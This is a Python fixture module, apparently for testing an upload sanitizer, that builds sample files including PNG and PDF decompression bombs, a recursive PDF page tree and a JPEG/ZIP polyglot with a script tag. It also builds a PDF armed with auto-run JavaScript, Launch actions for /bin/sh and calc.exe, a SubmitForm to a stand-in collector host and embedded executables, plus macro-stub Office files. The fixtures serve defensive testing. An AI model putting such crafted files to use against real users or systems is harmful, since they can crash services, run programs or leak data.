"""Files people send, and files nobody should: each made here, byte by byte where that matters."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image, ImageDraw

GPS_OF_ORESUND = {1: "N", 2: (55.0, 34.0, 12.0), 3: "E", 4: (12.0, 49.0, 30.0)}


def picture(form: str = "PNG", mode: str = "RGB", size: tuple[int, int] = (60, 40), **saving: object) -> bytes:
    """A small picture with a recognisable corner: dark at the top left, light elsewhere."""
    made = Image.new("RGB", size, "#e8e1d6")
    ImageDraw.Draw(made).rectangle((0, 0, size[0] // 3, size[1] // 3), fill="#1c2b3a")
    out = io.BytesIO()
    made.convert(mode).save(out, form, **saving)
    return out.getvalue()


def photo_with_location(orientation: int = 1) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "Maker of Mei's phone"
    exif.get_ifd(0x8825).update(GPS_OF_ORESUND)
    return picture("JPEG", exif=exif, comment=b"taken at home")


def animated_png() -> bytes:
    return picture("PNG", save_all=True, append_images=[Image.new("RGB", (60, 40), "red")])


def grey_16_bits() -> bytes:
    out = io.BytesIO()
    Image.new("I;16", (20, 10), 40_000).save(out, "PNG")
    return out.getvalue()


def png_bomb(width: int, height: int) -> bytes:
    """A header that promises width x height pixels, and next to nothing behind it."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\0" * 9))
        + _chunk(b"IEND", b"")
    )


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def archive(**files: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zipped:
        for name, text in files.items():
            zipped.writestr(name.replace("__", "/").replace("_dot_", "."), text)
    return out.getvalue()


def word_document_with_macro() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zipped:
        zipped.writestr("[Content_Types].xml", "<Types/>")
        zipped.writestr("word/document.xml", "<w:document/>")
        zipped.writestr("word/vbaProject.bin", "Sub AutoOpen()")
    return out.getvalue()


def office_archive_in_unusual_order() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zipped:
        zipped.writestr("zzz/first.bin", "x")
        zipped.writestr("word/document.xml", "<w:document/>")
        zipped.writestr("[Content_Types].xml", "<Types/>")
    return out.getvalue()


def old_word_document() -> bytes:
    return bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600


def jpeg_that_is_also_an_archive() -> bytes:
    return picture("JPEG") + archive(evil_dot_html="<script>alert(1)</script>")


def pdf(pages: int = 1, arm: Callable[[Pdf], None] | None = None, **saving: object) -> bytes:
    """A PDF whose pages say which they are; `arm` may add to it before it is saved."""
    made = Pdf.new()
    for number in range(1, pages + 1):
        page = made.add_blank_page(page_size=(300, 200))
        page.obj.Contents = made.make_stream(b"BT /F1 12 Tf 20 100 Td (page %d) Tj ET" % number)
    if arm:
        arm(made)
    out = io.BytesIO()
    made.save(out, **saving)
    return out.getvalue()


def script(code: str = "app.alert(1)") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def arm_fully(made: Pdf) -> None:
    """Every way the standard knows to make a document act or carry something along."""
    root = made.Root
    root.OpenAction = made.make_indirect(script("open()"))
    root.AA = Dictionary(WC=script("close()"), DP=Dictionary(S=Name.Launch, F=String("calc.exe")))
    made.attachments["invoice.exe"] = b"MZ attached"
    root.Names.JavaScript = Dictionary(Names=Array([String("on load"), made.make_indirect(script("named()"))]))
    field = made.make_indirect(
        Dictionary(FT=Name.Tx, T=String("total"), AA=Dictionary(C=script("calculate()")), V=String("12,00"))
    )
    root.AcroForm = Dictionary(Fields=Array([field]), XFA=made.make_stream(b"<xdp/>"), CO=Array([field]))
    root.Metadata = made.make_stream(b"<x:xmpmeta>Mei at home</x:xmpmeta>", Type=Name.Metadata, Subtype=Name.XML)
    made.docinfo["/Author"] = "Mei at home"
    page = made.pages[0].obj
    page.AA = Dictionary(O=script("page()"))
    page.MadeUp = Dictionary(Deep=Array([script("elsewhere")]))
    page.Metadata = made.make_stream(b"Mei at her page")
    page.Annots = Array([link(made, one) for one in _actions(made)] + _carriers(made))


def _actions(made: Pdf) -> list[Dictionary]:
    chained = Dictionary(S=Name.GoTo, D=Array([made.pages[0].obj, Name.Fit]), Next=script("chained()"))
    return [
        Dictionary(S=Name.URI, URI=String("https://tracker.example/")),
        Dictionary(S=Name.Launch, F=String("/bin/sh")),
        Dictionary(S=Name.SubmitForm, F=String("https://collector.example/")),
        Dictionary(S=Name("/InventedTomorrow"), JS=String("tomorrow()")),
        chained,
    ]


def link(made: Pdf, action: Dictionary) -> pikepdf.Object:
    return made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action))


def _carriers(made: Pdf) -> list[pikepdf.Object]:
    file = made.make_stream(b"MZ carried", Type=Name.EmbeddedFile)
    named = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=file))
    return [
        made.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=named)
        ),
        made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))),
    ]


def pdf_that_unpacks_to(size: int) -> bytes:
    """A PDF of a few KB whose object stream unpacks to `size` bytes."""
    packed = zlib.compress(b"1 0 " + b" " * size, 9)
    filed = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed + b"\nendstream"
    return _filed(
        {
            2: filed,
            3: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
            4: b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]/Resources<<>>>>",
            5: b"<</Type/Catalog/Pages 3 0 R/X 1 0 R>>",
        },
        root=5,
        packed={1: (2, 0)},
    )


def pdf_with_catalog(entries: bytes, forgotten: bytes = b"null") -> bytes:
    """A one-page PDF with hand-written entries in its catalog, and an object nothing refers to."""
    return _filed(
        {
            1: b"<</Type/Catalog/Pages 2 0 R %s>>" % entries,
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>>>",
            4: forgotten,
        },
        root=1,
        packed={},
    )


def pdf_whose_page_tree_folds_back(depth: int, width: int) -> bytes:
    """Ten nodes that name each other `width` times: width ** depth pages in a few hundred bytes."""
    nodes = {
        number: b"<</Type/Pages/Count 1/Kids[%s]>>" % b" ".join(b"%d 0 R" % (number + 1) for _ in range(width))
        for number in range(2, depth + 2)
    }
    leaf = {depth + 2: b"<</Type/Page/MediaBox[0 0 9 9]/Resources<<>>>>"}
    return _filed({1: b"<</Type/Catalog/Pages 2 0 R>>", **nodes, **leaf}, root=1, packed={})


def _filed(objects: dict[int, bytes], root: int, packed: dict[int, tuple[int, int]]) -> bytes:
    out, rows = b"%PDF-1.5\n", {0: (0, 0, 65535), **{number: (2, *place) for number, place in packed.items()}}
    for number, body in objects.items():
        rows[number] = (1, len(out), 0)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    last, place = max(rows) + 1, len(out)
    rows[last] = (1, place, 0)
    table = b"".join(struct.pack(">BIH", *rows[number]) for number in range(last + 1))
    head = b"<</Type/XRef/Size %d/W[1 4 2]/Root %d 0 R/Length %d>>stream\n" % (last + 1, root, len(table))
    return out + b"%d 0 obj\n" % last + head + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % place


def a_whole_png_bomb(side: int = 20_000) -> bytes:
    """Not the header alone: 400 million pixels that are all there, in about 48 KB."""
    row, pack = b"\0" * (1 + side // 8), zlib.compressobj(9)
    packed = b"".join(pack.compress(row) for _ in range(side)) + pack.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", packed) + _chunk(b"IEND", b"")


def animated_gif(frames: int = 3, size: tuple[int, int] = (60, 40)) -> bytes:
    pictures = [Image.new("P", size, number) for number in range(frames)]
    out = io.BytesIO()
    pictures[0].save(out, "GIF", save_all=True, append_images=pictures[1:])
    return out.getvalue()


def workbook_with_macro() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zipped:
        zipped.writestr("[Content_Types].xml", "<Types/>")
        zipped.writestr("xl/workbook.xml", "<workbook/>")
        zipped.writestr("xl/vbaProject.bin", "Sub Workbook_Open()")
    return out.getvalue()


def pdf_with_pages_that_say_so(count: int) -> bytes:
    """Real page objects, flat in one tree."""
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    pages = {n + 3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>>>" for n in range(count)}
    tree = {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids)}
    return _filed({**tree, **pages}, root=1, packed={})


def pdf_whose_page_unpacks_to(size: int, times: int = 1, streams: int = 1) -> bytes:
    """What shows the page is the bomb; packed `times` over, in `streams` parts."""

    def arm(made: Pdf) -> None:
        packed = b" " * size
        for _ in range(times):
            packed = zlib.compress(packed, 9)
        filters = Array([Name.FlateDecode] * times)
        parts = [made.make_stream(packed, Filter=filters) for _ in range(streams)]
        made.pages[0].obj.Contents = Array(parts)

    return pdf(1, arm)


def pdf_with_a_picture(width: int, height: int, content: bytes, **more: object) -> bytes:
    """A picture on its page, packed by Flate unless `more` says otherwise."""

    def arm(made: Pdf) -> None:
        usual = {"Type": Name.XObject, "Subtype": Name.Image, "Width": width, "Height": height, "BitsPerComponent": 8}
        about = {**usual, "ColorSpace": Name.DeviceRGB, "Filter": Name.FlateDecode, **more}
        picture = made.make_stream(content, **about)
        made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=picture))

    return pdf(1, arm)


def jpeg_that_says_it_has(width: int, height: int) -> bytes:
    """A small JPEG whose header promises more."""
    content = bytearray(picture("JPEG"))
    start = content.index(b"\xff\xc0") + 5  # SOF0: length, precision, then height and width (ITU-T T.81, B.2.2)
    content[start : start + 4] = struct.pack(">HH", height, width)
    return bytes(content)
